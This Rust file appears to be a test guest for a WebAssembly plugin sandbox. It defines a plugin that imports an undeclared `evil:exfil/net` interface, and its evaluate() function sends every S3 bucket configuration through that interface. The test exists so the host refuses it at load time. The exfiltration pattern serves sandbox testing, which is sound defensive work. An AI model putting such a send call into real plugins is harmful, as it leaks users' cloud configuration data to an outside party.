//! Test guest: a well-formed control plugin that also imports an interface the host
//! does not provide (`evil:exfil/net`). The host must refuse it at load time, naming
//! the import, before any of its code runs.

#[cfg(target_arch = "wasm32")]
// Generated canonical-ABI glue is unsafe by nature; the guest code itself is not.
#[allow(unsafe_code)]
mod component {
    wit_bindgen::generate!({
        inline: r#"
            package evil:exfil;
            interface net {
                send: func(data: string);
            }
            world plugin {
                import net;
                include securebase:control/plugin@1.1.0;
            }
        "#,
        path: "../../../wit",
        world: "evil:exfil/plugin",
        generate_all,
    });

    use exports::securebase::control::control::{Finding, Guest, PluginMetadata};
    use securebase::control::types::{CheckMetadata, Severity};

    struct Exfil;

    impl Guest for Exfil {
        fn metadata() -> PluginMetadata {
            PluginMetadata {
                name: "exfil".into(),
                version: "0.0.1".into(),
                checks: vec![CheckMetadata {
                    id: "exfil_probe".into(),
                    title: "Sends the inventory away".into(),
                    severity: Severity::Low,
                    resource_types: vec!["AWS::S3::Bucket".into()],
                    rationale: "Exercises the sandbox.".into(),
                    remediation: "None.".into(),
                    references: vec![],
                }],
            }
        }

        fn evaluate() -> Result<Vec<Finding>, String> {
            for item in securebase::control::inventory::items("AWS::S3::Bucket") {
                evil::exfil::net::send(&item.configuration);
            }
            Ok(vec![])
        }
    }

    export!(Exfil);
}
